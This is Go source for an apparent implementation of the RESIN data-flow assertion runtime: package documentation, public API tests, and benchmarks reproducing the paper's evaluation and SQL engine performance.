// Package resin is a Go implementation of RESIN, the data-flow assertion
// runtime of "Improving Application Security with Data Flow Assertions"
// (Yip, Wang, Zeldovich, Kaashoek — SOSP 2009).
//
// RESIN lets programmers make their plan for correct data flow explicit.
// A data flow assertion is written once — as a policy object attached to
// the sensitive data — and the runtime checks it on every path the data
// can take out of the application, including paths the programmer never
// anticipated.
//
// # The three mechanisms
//
//   - Policy objects (Policy) encapsulate assertion code and metadata for
//     a piece of data. Example: a PasswordPolicy carrying the account
//     holder's email address, whose ExportCheck allows the password to
//     leave only via email to that address.
//
//   - Data tracking (String, Int) propagates policy objects with the data
//     as the application copies, concatenates, slices and reassembles it.
//     Tracking is character-level: concatenating "foo" (policy p1) and
//     "bar" (policy p2) yields a string whose first three bytes carry only
//     p1 and whose last three carry only p2.
//
//   - Filter objects (WriteFilter, ReadFilter, FuncFilter) define data
//     flow boundaries (Channel). The default boundary surrounds the whole
//     runtime — sockets, pipes, files, HTTP output, email, SQL, and code
//     import — and its default filter invokes ExportCheck on every policy
//     of the in-transit data.
//
// # A complete assertion
//
// The paper's running example — "user u's password may leave the system
// only via email to u's email address, or to the program chair" — looks
// like this (compare Figure 2 of the paper):
//
//	type PasswordPolicy struct {
//		Email string `json:"email"`
//	}
//
//	func (p *PasswordPolicy) ExportCheck(ctx *resin.Context) error {
//		if ctx.Type() == "email" {
//			if to, _ := ctx.GetString("email"); to == p.Email {
//				return nil
//			}
//		}
//		if ctx.Type() == "http" && ctx.GetBool("privChair") {
//			return nil
//		}
//		return errors.New("unauthorized disclosure")
//	}
//
//	password = rt.PolicyAdd(password, &PasswordPolicy{Email: "u@foo.com"})
//
// From then on every channel the password can traverse — the HTTP
// response, an email body, a file, a SQL column — checks the assertion;
// the email-preview logic bug that leaked HotCRP passwords becomes an
// AssertionError instead of a disclosure.
//
// # Paper API mapping (Table 3)
//
// The paper's PHP-level API corresponds to this package as follows:
//
//	policy_add(data, policy)     → Runtime.PolicyAdd, String.WithPolicy
//	policy_remove(data, policy)  → Runtime.PolicyRemove, String.WithoutPolicy
//	policy_get(data)             → String.Policies, String.PoliciesAt
//	export_check(context)        → Policy.ExportCheck (vetoed by error)
//	merge(other_set)             → Merger.Merge (§3.4.2)
//	filter_write / filter_read   → WriteFilter.FilterWrite, ReadFilter.FilterRead
//	serialized policies (§3.4.1) → RegisterPolicyClass, EncodeSpans, DecodeSpans
//
// # Substrates
//
// The repository also implements the substrates the paper's evaluation
// runs on: an in-memory filesystem with persistent policies in extended
// attributes (internal/vfs), a SQL database whose RESIN filter rewrites
// queries to persist policies in shadow columns (internal/sqldb), an HTTP
// server simulation (internal/httpd), a mailer (internal/mail), a script
// interpreter with a guarded code-import channel (internal/script), and
// the six applications of Table 4 (internal/apps).
//
// # Further reading
//
// README.md walks through a complete quickstart and maps every package;
// docs/ARCHITECTURE.md describes the layering (facade → core runtime →
// boundary adapters → applications), the policy-set intern table that
// keeps the tracking hot path on pointer comparisons, and the data flow
// of a request crossing the default boundary. The layering is enforced
// by the architecture guard test in internal/core/arch_test.go.
package resin
