package resin_test

// End-to-end tests of the public API surface (the root resin package),
// written the way a downstream user would write them.

import (
	"errors"
	"strings"
	"testing"

	"resin"
)

type apiPolicy struct {
	Allowed string `json:"allowed"`
}

func (p *apiPolicy) ExportCheck(ctx *resin.Context) error {
	if u, _ := ctx.GetString("user"); u == p.Allowed {
		return nil
	}
	return errors.New("not " + p.Allowed)
}

func init() {
	resin.RegisterPolicyClass("apitest.Policy", &apiPolicy{})
}

func TestPublicAPITable3Mapping(t *testing.T) {
	rt := resin.NewRuntime()
	p := &apiPolicy{Allowed: "alice"}

	// policy_add / policy_get / policy_remove
	data := rt.PolicyAdd(resin.NewString("secret"), p)
	if got := rt.PolicyGet(data); len(got) != 1 || got[0] != resin.Policy(p) {
		t.Fatalf("PolicyGet = %v", got)
	}
	clean := rt.PolicyRemove(data, p)
	if len(rt.PolicyGet(clean)) != 0 {
		t.Fatal("PolicyRemove failed")
	}

	// export_check via the default filter
	ch := resin.NewChannel(rt, resin.KindHTTP, resin.ExportCheckFilter{})
	ch.Context().Set("user", "alice")
	if err := ch.Write(data); err != nil {
		t.Fatalf("alice write: %v", err)
	}
	ch2 := resin.NewChannel(rt, resin.KindHTTP, resin.ExportCheckFilter{})
	ch2.Context().Set("user", "bob")
	err := ch2.Write(data)
	ae, ok := resin.IsAssertionError(err)
	if !ok || ae.Policy != resin.Policy(p) {
		t.Fatalf("bob write: %v", err)
	}
}

func TestPublicAPITrackingOps(t *testing.T) {
	p := &apiPolicy{Allowed: "x"}
	s := resin.Concat(
		resin.NewStringPolicy("abc", p),
		resin.NewString("-"),
		resin.Format("%d", resin.NewInt(42)),
	)
	if s.Raw() != "abc-42" {
		t.Fatalf("raw = %q", s.Raw())
	}
	if !s.Slice(0, 3).IsTainted() || s.Slice(3, 6).IsTainted() {
		t.Error("span layout wrong")
	}
	joined := resin.Join([]resin.String{resin.NewString("a"), resin.NewString("b")}, resin.NewString(","))
	if joined.Raw() != "a,b" {
		t.Errorf("join = %q", joined.Raw())
	}
	sum, err := resin.Checksum(resin.NewStringPolicy("ab", p))
	if err != nil || !sum.Policies().Contains(p) {
		t.Errorf("checksum: %v %s", err, sum.Policies())
	}
	merged, err := resin.MergePolicies(resin.NewPolicySet(p), resin.NewPolicySet())
	if err != nil || !merged.Contains(p) {
		t.Errorf("merge: %v %s", err, merged)
	}
}

func TestPublicAPISerialization(t *testing.T) {
	p := &apiPolicy{Allowed: "alice"}
	enc, err := resin.EncodePolicy(p)
	if err != nil {
		t.Fatal(err)
	}
	dec, err := resin.DecodePolicy(enc)
	if err != nil {
		t.Fatal(err)
	}
	if dec.(*apiPolicy).Allowed != "alice" {
		t.Error("round trip lost fields")
	}
	s := resin.NewStringPolicy("data", p)
	ann, err := resin.EncodeSpans(s)
	if err != nil {
		t.Fatal(err)
	}
	back, err := resin.DecodeSpans("data", ann)
	if err != nil || !back.IsTainted() {
		t.Errorf("span round trip: %v", err)
	}
}

func TestPublicAPIBuffering(t *testing.T) {
	rt := resin.NewRuntime()
	ch := resin.NewChannel(rt, resin.KindHTTP, resin.ExportCheckFilter{})
	ch.BeginBuffer()
	ch.Write(resin.NewString("draft"))
	ch.DiscardBuffer()
	ch.Write(resin.NewString("final"))
	if ch.RawOutput() != "final" {
		t.Errorf("output = %q", ch.RawOutput())
	}
}

func TestPublicAPIUntrackedBaseline(t *testing.T) {
	rt := resin.NewUntrackedRuntime()
	p := &apiPolicy{Allowed: "nobody"}
	data := rt.PolicyAdd(resin.NewString("x"), p)
	if data.IsTainted() {
		t.Error("untracked PolicyAdd should be a no-op")
	}
	ch := resin.NewChannel(rt, resin.KindEmail, resin.ExportCheckFilter{})
	if err := ch.Write(resin.NewStringPolicy("x", p)); err != nil {
		t.Error("untracked channel should skip filters")
	}
}

func TestPublicAPIUtilityFilters(t *testing.T) {
	rt := resin.NewRuntime()
	p := &apiPolicy{Allowed: "nobody"}

	strip := resin.NewChannel(rt, resin.KindPipe,
		&resin.StripPolicyFilter{Pred: func(q resin.Policy) bool { return q == resin.Policy(p) }},
		resin.ExportCheckFilter{})
	if err := strip.Write(resin.NewStringPolicy("x", p)); err != nil {
		t.Errorf("stripped policy should pass: %v", err)
	}

	taint := resin.NewChannel(rt, resin.KindSocket, &resin.TaintReadFilter{Policies: []resin.Policy{p}})
	got, err := taint.Read(resin.NewString("incoming"))
	if err != nil || !got.IsTainted() {
		t.Errorf("taint read: %v", err)
	}

	seq := resin.NewChannel(rt, resin.KindHTTP, &resin.RejectSequenceFilter{Sequence: "\r\n"})
	if err := seq.Write(resin.NewString("a\r\nb")); err == nil {
		t.Error("sequence filter should fire")
	}

	called := false
	fn := resin.NewChannel(rt, resin.KindSQL, resin.FuncFilterFunc(
		func(ch *resin.Channel, args []any) ([]any, error) {
			called = true
			return args, nil
		}))
	if _, err := fn.Call([]any{1}); err != nil || !called {
		t.Error("func filter adapter failed")
	}
}

func TestPublicAPIDescribeOutput(t *testing.T) {
	p := &apiPolicy{Allowed: "a"}
	s := resin.NewStringPolicy("xy", p)
	if !strings.Contains(s.Describe(), "apitest.Policy") {
		t.Errorf("Describe = %q", s.Describe())
	}
}
