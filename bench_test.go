package resin_test

// Benchmarks regenerating the RESIN paper's evaluation:
//
//   BenchmarkTable5_*     — the microbenchmark of Table 5 (one benchmark
//                           per operation × configuration).
//   BenchmarkSec71_*      — the §7.1 application experiment: HotCRP paper
//                           page generation, unmodified vs RESIN.
//   BenchmarkTable4_*     — the attack scenarios behind Table 4, runnable
//                           as benchmarks to measure assertion-checking
//                           cost on the attack paths.
//   BenchmarkAblation_*   — design-choice ablations from DESIGN.md:
//                           character-level vs whole-string tracking,
//                           span coalescing, SQL policy-column scaling,
//                           union vs custom merge.
//
// Run: go test -bench=. -benchmem .

import (
	"fmt"
	"strings"
	"sync/atomic"
	"testing"

	"resin/internal/apps/hotcrp"
	"resin/internal/core"
	"resin/internal/lineage"
	"resin/internal/microbench"
	"resin/internal/seceval"
	"resin/internal/sqldb"
)

// ---- Table 5 ----

func BenchmarkTable5(b *testing.B) {
	for _, op := range microbench.Ops() {
		for _, mode := range []microbench.Mode{
			microbench.Unmodified, microbench.NoPolicy, microbench.EmptyPolicy,
		} {
			op, mode := op, mode
			name := strings.ReplaceAll(op.Name, " ", "_")
			name = strings.ReplaceAll(name, ",", "")
			b.Run(fmt.Sprintf("%s/%s", name, mode), func(b *testing.B) {
				op.Bench(b, mode)
			})
		}
	}
}

// ---- §7.1: HotCRP page generation ----

func BenchmarkSec71_HotCRPPageUnmodified(b *testing.B) {
	_, render := hotcrp.NewBenchInstance(false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := render(); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkSec71_HotCRPPageResin(b *testing.B) {
	_, render := hotcrp.NewBenchInstance(true)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := render(); err != nil {
			b.Fatal(err)
		}
	}
}

// ---- Table 4: attack scenarios as benchmarks ----

func BenchmarkTable4_AttackSuiteBlocked(b *testing.B) {
	_, scenarios, _ := seceval.Catalog()
	for i := 0; i < b.N; i++ {
		for _, sc := range scenarios {
			if ok, _ := sc.Attack(true); ok && sc.Kind != "depth" {
				b.Fatalf("%s: attack succeeded with assertions on", sc.Name)
			}
		}
	}
}

func BenchmarkTable4_PasswordAssertionPath(b *testing.B) {
	for i := 0; i < b.N; i++ {
		leaked, blockErr := hotcrp.AttackPasswordPreview(true)
		if leaked || blockErr == nil {
			b.Fatal("assertion must block")
		}
	}
}

// ---- Ablations ----

type ablationPolicy struct{ ID int }

func (p *ablationPolicy) ExportCheck(ctx *core.Context) error { return nil }

func init() {
	// The SQL ablation persists this policy into policy columns, so the
	// class must be registered for serialization.
	core.RegisterPolicyClass("bench.AblationPolicy", &ablationPolicy{})
}

// BenchmarkAblation_CharacterLevelConcat measures the cost of span-based
// (character-level) concatenation...
func BenchmarkAblation_CharacterLevelConcat(b *testing.B) {
	l := core.NewStringPolicy("left operand!", &ablationPolicy{ID: 1})
	r := core.NewStringPolicy("right operand", &ablationPolicy{ID: 2})
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s := core.Concat(l, r)
		if s.Len() == 0 {
			b.Fatal("empty")
		}
	}
}

// ...versus the whole-string alternative, which must merge the two policy
// sets on every concat (what RESIN's character-level design avoids: "RESIN
// uses character-level tracking to avoid having to merge policies when
// individual data elements are propagated verbatim").
func BenchmarkAblation_WholeStringConcat(b *testing.B) {
	p1 := core.NewPolicySet(&ablationPolicy{ID: 1})
	p2 := core.NewPolicySet(&ablationPolicy{ID: 2})
	l, r := "left operand!", "right operand"
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		merged, err := core.MergePolicies(p1, p2)
		if err != nil {
			b.Fatal(err)
		}
		s := core.NewString(l + r).WithPolicy(merged.Policies()...)
		if s.Len() == 0 {
			b.Fatal("empty")
		}
	}
}

// BenchmarkAblation_InternedVsNaiveUnion compares repeated unions of the
// same two policy sets through the interned hot path (pointer-identity
// subset checks plus the memoized pairwise-union cache) against a naive
// member-wise union that re-deduplicates by object identity on every
// call — the cost every concat, slice, and boundary crossing used to
// pay before interning.
func BenchmarkAblation_InternedVsNaiveUnion(b *testing.B) {
	p1, p2, p3 := &ablationPolicy{ID: 1}, &ablationPolicy{ID: 2}, &ablationPolicy{ID: 3}
	a := core.NewPolicySet(p1, p2).Intern()
	c := core.NewPolicySet(p2, p3).Intern()

	b.Run("interned-union", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if u := a.Union(c); u.Len() != 3 {
				b.Fatalf("union len = %d", u.Len())
			}
		}
	})
	b.Run("naive-union", func(b *testing.B) {
		b.ReportAllocs()
		ap, cp := a.Policies(), c.Policies()
		for i := 0; i < b.N; i++ {
			// The pre-interning algorithm: collect members, dropping
			// duplicates by identity with a quadratic scan, and wrap
			// the result. (Identity here is plain interface equality,
			// cheaper than the seed's reflection-based compare, so this
			// arm slightly understates the true pre-interning cost.)
			out := make([]core.Policy, 0, len(ap)+len(cp))
			out = append(out, ap...)
			for _, p := range cp {
				dup := false
				for _, q := range out {
					if p == q {
						dup = true
						break
					}
				}
				if !dup {
					out = append(out, p)
				}
			}
			naiveUnionSink = out
			if len(out) != 3 {
				b.Fatalf("union len = %d", len(out))
			}
		}
	})
}

// naiveUnionSink defeats dead-code elimination of the naive-union arm.
var naiveUnionSink []core.Policy

// BenchmarkAblation_ConcatHeavyPageRender assembles an HTML page the way
// HotCRP's paper view does — hundreds of small tracked fragments
// (markup, tainted review text, author names under a policy)
// concatenated into one response body — exercising the span-arena
// builder and the pointer-fast coalescing path end to end.
func BenchmarkAblation_ConcatHeavyPageRender(b *testing.B) {
	author := core.NewStringPolicy("A. U. Thor", &ablationPolicy{ID: 11})
	review := core.NewStringPolicy("Strong accept: the interning design is sound.", &ablationPolicy{ID: 12})
	comment := core.NewStringPolicy("<i>meta</i> comment", &ablationPolicy{ID: 13})
	open := core.NewString("<tr><td>")
	mid := core.NewString("</td><td>")
	close_ := core.NewString("</td></tr>\n")
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		var page core.Builder
		page.AppendRaw("<html><body><table>\n")
		for row := 0; row < 50; row++ {
			page.Append(open)
			page.Append(author)
			page.Append(mid)
			page.Append(review)
			page.Append(mid)
			page.Append(comment)
			page.Append(close_)
		}
		page.AppendRaw("</table></body></html>\n")
		out := page.String()
		if out.Len() == 0 || !out.IsTainted() {
			b.Fatal("bad page")
		}
	}
}

// BenchmarkAblation_SpanCoalescing measures repeated same-policy appends:
// with coalescing the span list stays at one entry; the benchmark reports
// the resulting span count as a metric.
func BenchmarkAblation_SpanCoalescing(b *testing.B) {
	p := &ablationPolicy{ID: 1}
	chunk := core.NewStringPolicy("0123456789abcdef", p)
	b.ResetTimer()
	var spans int
	for i := 0; i < b.N; i++ {
		var bld core.Builder
		for j := 0; j < 64; j++ {
			bld.Append(chunk)
		}
		spans = bld.String().SpanCount()
		if spans != 1 {
			b.Fatalf("span count = %d, want 1 (coalescing broken)", spans)
		}
	}
	b.ReportMetric(float64(spans), "spans")
}

// ---- SQL execution layer: indexes and the plan cache ----

// newLargeSQLTable builds a policy-carrying table of n rows through the
// RESIN filter (so every name cell stores a serialized policy in its
// shadow column), optionally with hash indexes on the key columns.
func newLargeSQLTable(b *testing.B, n int, indexed bool) *sqldb.DB {
	b.Helper()
	rt := core.NewRuntime()
	db := sqldb.Open(rt)
	db.MustExec("CREATE TABLE users (id INT, name TEXT, bio TEXT)")
	if indexed {
		db.MustExec("CREATE INDEX ON users (id)")
	}
	pol := &ablationPolicy{ID: 42}
	for i := 0; i < n; i += 50 {
		var qb core.Builder
		qb.AppendRaw("INSERT INTO users (id, name, bio) VALUES ")
		for j := i; j < i+50 && j < n; j++ {
			if j > i {
				qb.AppendRaw(", ")
			}
			qb.AppendRaw(fmt.Sprintf("(%d, '", j))
			qb.Append(core.NewStringPolicy(fmt.Sprintf("name-%04d", j), pol))
			qb.AppendRaw(fmt.Sprintf("', 'bio for user %d')", j))
		}
		if _, err := db.Query(qb.String()); err != nil {
			b.Fatal(err)
		}
	}
	return db
}

// BenchmarkSQLIndexedLookup measures point lookups on a 5k-row table,
// indexed vs full scan, through the RESIN filter (policy columns
// fetched, annotations batch-decoded, policies re-attached) and against
// the bare engine. The indexed arms must beat the scan arms by ≥10×;
// the filter arms also exercise the plan cache (every iteration is a
// cache hit with a fresh literal).
func BenchmarkSQLIndexedLookup(b *testing.B) {
	const nrows = 5000
	for _, arm := range []struct {
		name    string
		indexed bool
	}{{"filter/indexed", true}, {"filter/scan", false}} {
		b.Run(arm.name, func(b *testing.B) {
			db := newLargeSQLTable(b, nrows, arm.indexed)
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				q := fmt.Sprintf("SELECT name, bio FROM users WHERE id = %d", i%nrows)
				res, err := db.QueryRaw(q)
				if err != nil {
					b.Fatal(err)
				}
				if res.Len() != 1 || !res.Get(0, "name").Str.IsTainted() {
					b.Fatalf("row %d: %d rows, tainted=%v", i%nrows, res.Len(), res.Get(0, "name").Str.IsTainted())
				}
			}
		})
	}
	for _, arm := range []struct {
		name    string
		indexed bool
	}{{"engine-raw/indexed", true}, {"engine-raw/scan", false}} {
		b.Run(arm.name, func(b *testing.B) {
			db := newLargeSQLTable(b, nrows, arm.indexed)
			eng := db.Engine()
			stmts := make([]sqldb.Statement, nrows)
			for i := range stmts {
				stmt, err := sqldb.Parse(core.NewString(fmt.Sprintf("SELECT name, bio FROM users WHERE id = %d", i)))
				if err != nil {
					b.Fatal(err)
				}
				stmts[i] = stmt
			}
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if _, _, err := eng.ExecuteRaw(stmts[i%nrows]); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkSQLConcurrentReadWrite measures read throughput while a
// writer churns the same table: the "readonly" arm is the uncontended
// reference, the "contended" arm runs the identical read workload with
// one background goroutine continuously applying indexed single-row
// UPDATEs. Each read is a 500-row range slice with an ORDER BY on an
// un-probed column, so the row-evaluation and sort work dominates; an
// engine that evaluates under the table lock convoys that work behind
// every writer turn, while snapshot readers pay only the candidate
// hand-off.
func BenchmarkSQLConcurrentReadWrite(b *testing.B) {
	const nrows = 5000
	read := func(b *testing.B, db *sqldb.DB, i int) {
		lo := (i * 37) % (nrows - 500)
		q := fmt.Sprintf("SELECT name FROM users WHERE id >= %d AND id < %d ORDER BY name LIMIT 10", lo, lo+500)
		res, err := db.QueryRaw(q)
		if err != nil {
			b.Fatal(err)
		}
		if res.Len() != 10 {
			b.Fatalf("lo %d: %d rows", lo, res.Len())
		}
	}
	b.Run("readonly", func(b *testing.B) {
		db := newLargeSQLTable(b, nrows, true)
		var ctr atomic.Int64
		b.ReportAllocs()
		b.ResetTimer()
		b.RunParallel(func(pb *testing.PB) {
			for pb.Next() {
				read(b, db, int(ctr.Add(1)))
			}
		})
	})
	b.Run("contended", func(b *testing.B) {
		db := newLargeSQLTable(b, nrows, true)
		upd, err := db.PrepareRaw("UPDATE users SET bio = ? WHERE id = ?")
		if err != nil {
			b.Fatal(err)
		}
		del, err := db.PrepareRaw("DELETE FROM users WHERE id = ?")
		if err != nil {
			b.Fatal(err)
		}
		ins, err := db.PrepareRaw("INSERT INTO users (id, name, bio) VALUES (?, ?, ?)")
		if err != nil {
			b.Fatal(err)
		}
		stop := make(chan struct{})
		done := make(chan struct{})
		go func() {
			defer close(done)
			for i := 0; ; i++ {
				select {
				case <-stop:
					return
				default:
				}
				k := i % nrows
				if _, err := upd.Exec(fmt.Sprintf("rev %d", i), k); err != nil {
					b.Error(err)
					return
				}
				if _, err := del.Exec(k); err != nil {
					b.Error(err)
					return
				}
				if _, err := ins.Exec(k, fmt.Sprintf("name-%04d", k), "reborn"); err != nil {
					b.Error(err)
					return
				}
			}
		}()
		var ctr atomic.Int64
		b.ReportAllocs()
		b.ResetTimer()
		b.RunParallel(func(pb *testing.PB) {
			for pb.Next() {
				read(b, db, int(ctr.Add(1)))
			}
		})
		b.StopTimer()
		close(stop)
		<-done
	})
}

// BenchmarkSQLDeleteByKey measures single-row deletes located by
// indexed key (each op deletes one row and re-inserts it so the table
// holds steady at nrows): with positional row storage every DELETE
// rebuilds all of the table's indexes wholesale, so the per-op cost is
// O(table); tombstoned deletes under stable row ids pay O(1).
func BenchmarkSQLDeleteByKey(b *testing.B) {
	const nrows = 5000
	db := newLargeSQLTable(b, nrows, true)
	del, err := db.PrepareRaw("DELETE FROM users WHERE id = ?")
	if err != nil {
		b.Fatal(err)
	}
	ins, err := db.PrepareRaw("INSERT INTO users (id, name, bio) VALUES (?, ?, ?)")
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		id := i % nrows
		n, err := del.Exec(id)
		if err != nil {
			b.Fatal(err)
		}
		if n != 1 {
			b.Fatalf("id %d: deleted %d rows", id, n)
		}
		if _, err := ins.Exec(id, fmt.Sprintf("name-%04d", id), "reborn"); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkSQLUpdateByKey measures single-row updates located by key,
// indexed vs scan, through the filter (the policy column is rewritten
// alongside the data column).
func BenchmarkSQLUpdateByKey(b *testing.B) {
	const nrows = 5000
	for _, arm := range []struct {
		name    string
		indexed bool
	}{{"indexed", true}, {"scan", false}} {
		b.Run(arm.name, func(b *testing.B) {
			db := newLargeSQLTable(b, nrows, arm.indexed)
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				q := fmt.Sprintf("UPDATE users SET bio = 'rev %d' WHERE id = %d", i, i%nrows)
				res, err := db.QueryRaw(q)
				if err != nil {
					b.Fatal(err)
				}
				if res.Affected != 1 {
					b.Fatalf("affected %d rows", res.Affected)
				}
			}
		})
	}
}

// BenchmarkSQLPlanCache isolates what the plan cache saves: "warm" runs
// a repeated query shape entirely on cache hits (zero parses per op,
// reported as a metric); "cold" resets the cache every iteration, so
// each query re-parses its parameterized template.
func BenchmarkSQLPlanCache(b *testing.B) {
	const nrows = 500
	b.Run("warm", func(b *testing.B) {
		db := newLargeSQLTable(b, nrows, true)
		db.MustExec("SELECT name FROM users WHERE id = 0") // compile the plan
		start := sqldb.ParseCount()
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if _, err := db.QueryRaw(fmt.Sprintf("SELECT name FROM users WHERE id = %d", i%nrows)); err != nil {
				b.Fatal(err)
			}
		}
		b.StopTimer()
		b.ReportMetric(float64(sqldb.ParseCount()-start)/float64(b.N), "parses/op")
	})
	b.Run("cold", func(b *testing.B) {
		db := newLargeSQLTable(b, nrows, true)
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			db.Filter().PlanCacheReset()
			if _, err := db.QueryRaw(fmt.Sprintf("SELECT name FROM users WHERE id = %d", i%nrows)); err != nil {
				b.Fatal(err)
			}
		}
	})
}

// BenchmarkSQLPreparedLookup measures the prepared-statement execution
// path against the warm text path on the same indexed point lookup.
// "prepared" binds the key into the compiled plan — the parses/op and
// tokenizes/op metrics must both be 0 — while "text-warm" re-tokenizes
// every iteration and resolves through the plan cache (itself already
// parse-free when warm). Prepared execution must be no slower than the
// warm plan-cache path.
func BenchmarkSQLPreparedLookup(b *testing.B) {
	const nrows = 500
	b.Run("prepared", func(b *testing.B) {
		db := newLargeSQLTable(b, nrows, true)
		stmt, err := db.PrepareRaw("SELECT name, bio FROM users WHERE id = ?")
		if err != nil {
			b.Fatal(err)
		}
		if _, err := stmt.Query(0); err != nil { // warm the schema-derived plan state
			b.Fatal(err)
		}
		parse0, lex0 := sqldb.ParseCount(), sqldb.TokenizeCount()
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			res, err := stmt.Query(i % nrows)
			if err != nil {
				b.Fatal(err)
			}
			if res.Len() != 1 || !res.Get(0, "name").Str.IsTainted() {
				b.Fatalf("row %d: %d rows", i%nrows, res.Len())
			}
		}
		b.StopTimer()
		b.ReportMetric(float64(sqldb.ParseCount()-parse0)/float64(b.N), "parses/op")
		b.ReportMetric(float64(sqldb.TokenizeCount()-lex0)/float64(b.N), "tokenizes/op")
	})
	b.Run("text-warm", func(b *testing.B) {
		db := newLargeSQLTable(b, nrows, true)
		db.MustExec("SELECT name, bio FROM users WHERE id = 0") // compile the plan
		parse0, lex0 := sqldb.ParseCount(), sqldb.TokenizeCount()
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			res, err := db.QueryRaw(fmt.Sprintf("SELECT name, bio FROM users WHERE id = %d", i%nrows))
			if err != nil {
				b.Fatal(err)
			}
			if res.Len() != 1 {
				b.Fatalf("row %d: %d rows", i%nrows, res.Len())
			}
		}
		b.StopTimer()
		b.ReportMetric(float64(sqldb.ParseCount()-parse0)/float64(b.N), "parses/op")
		b.ReportMetric(float64(sqldb.TokenizeCount()-lex0)/float64(b.N), "tokenizes/op")
	})
}

// BenchmarkSQLRangeLookup measures a 10-row range slice out of a 5k-row
// table through the RESIN filter, key-range scan via the ordered index
// vs full scan. The indexed arm must beat the scan arm by ≥10× (the
// acceptance bar mirroring BenchmarkSQLIndexedLookup's for equality).
func BenchmarkSQLRangeLookup(b *testing.B) {
	const nrows = 5000
	for _, arm := range []struct {
		name    string
		indexed bool
	}{{"filter/indexed", true}, {"filter/scan", false}} {
		b.Run(arm.name, func(b *testing.B) {
			db := newLargeSQLTable(b, nrows, arm.indexed)
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				lo := (i * 37) % (nrows - 10)
				q := fmt.Sprintf("SELECT name, bio FROM users WHERE id >= %d AND id < %d", lo, lo+10)
				res, err := db.QueryRaw(q)
				if err != nil {
					b.Fatal(err)
				}
				if res.Len() != 10 || !res.Get(0, "name").Str.IsTainted() {
					b.Fatalf("lo %d: %d rows, tainted=%v", lo, res.Len(), res.Get(0, "name").Str.IsTainted())
				}
			}
		})
	}
}

// BenchmarkSQLOrderByPushdown measures the same range slice with ORDER
// BY on the probed column. The indexed arm emits rows in index order —
// the sorts/op metric (from sqldb.SortCount) must be 0 — while the scan
// arm pays the post-filter sort every iteration (sorts/op 1).
func BenchmarkSQLOrderByPushdown(b *testing.B) {
	const nrows = 5000
	for _, arm := range []struct {
		name    string
		indexed bool
	}{{"indexed", true}, {"scan", false}} {
		b.Run(arm.name, func(b *testing.B) {
			db := newLargeSQLTable(b, nrows, arm.indexed)
			sort0 := sqldb.SortCount()
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				lo := (i * 37) % (nrows - 50)
				q := fmt.Sprintf("SELECT name FROM users WHERE id >= %d AND id < %d ORDER BY id DESC LIMIT 20", lo, lo+50)
				res, err := db.QueryRaw(q)
				if err != nil {
					b.Fatal(err)
				}
				if res.Len() != 20 {
					b.Fatalf("lo %d: %d rows", lo, res.Len())
				}
			}
			b.StopTimer()
			b.ReportMetric(float64(sqldb.SortCount()-sort0)/float64(b.N), "sorts/op")
		})
	}
}

// BenchmarkSQLHashJoin measures a 5k×5k INNER JOIN at the engine: the
// planned hash join (equality-bucket build over the smaller input,
// chosen by the cardinality cost hook) against the nested-loop
// reference executor on the identical statement (ForceLoop — the same
// oracle the differential harness diffs against). The hash arm must
// beat the nested loop by ≥10× (the acceptance bar mirroring
// BenchmarkSQLIndexedLookup's for point lookups).
func BenchmarkSQLHashJoin(b *testing.B) {
	const nrows = 5000
	rt := core.NewRuntime()
	db := sqldb.Open(rt)
	db.MustExec("CREATE TABLE users (id INT, name TEXT)")
	db.MustExec("CREATE TABLE orders (uid INT, item TEXT)")
	pol := &ablationPolicy{ID: 43}
	for i := 0; i < nrows; i += 50 {
		var ub core.Builder
		ub.AppendRaw("INSERT INTO users (id, name) VALUES ")
		for j := i; j < i+50; j++ {
			if j > i {
				ub.AppendRaw(", ")
			}
			ub.AppendRaw(fmt.Sprintf("(%d, '", j))
			ub.Append(core.NewStringPolicy(fmt.Sprintf("name-%04d", j), pol))
			ub.AppendRaw("')")
		}
		if _, err := db.Query(ub.String()); err != nil {
			b.Fatal(err)
		}
		if _, err := db.QueryRaw("INSERT INTO orders (uid, item) VALUES " + ordersValues(i, nrows)); err != nil {
			b.Fatal(err)
		}
	}
	q := "SELECT users.name, orders.item FROM users INNER JOIN orders ON users.id = orders.uid"
	eng := db.Engine()
	for _, arm := range []struct {
		name string
		loop bool
	}{{"hash", false}, {"nested-loop", true}} {
		b.Run(arm.name, func(b *testing.B) {
			stmt, err := sqldb.Parse(core.NewString(q))
			if err != nil {
				b.Fatal(err)
			}
			sel := stmt.(*sqldb.Select)
			sel.ForceLoop = arm.loop
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				res, _, err := eng.ExecuteRaw(sel)
				if err != nil {
					b.Fatal(err)
				}
				if res.Len() != nrows {
					b.Fatalf("%d rows, want %d", res.Len(), nrows)
				}
			}
		})
	}
}

// ordersValues renders one 50-row VALUES batch for the join benchmark's
// orders table. gcd(7, nrows) = 1, so every user matches exactly one
// order and the join yields nrows rows.
func ordersValues(base, nrows int) string {
	var sb strings.Builder
	for j := base; j < base+50; j++ {
		if j > base {
			sb.WriteString(", ")
		}
		fmt.Fprintf(&sb, "(%d, 'item-%04d')", (j*7)%nrows, j)
	}
	return sb.String()
}

// BenchmarkAblation_SQLPolicyColumns measures how the SQL filter's
// rewriting cost scales with column count (the paper: "RESIN's overhead
// is related to the size of the query, and the number of columns that
// have policies").
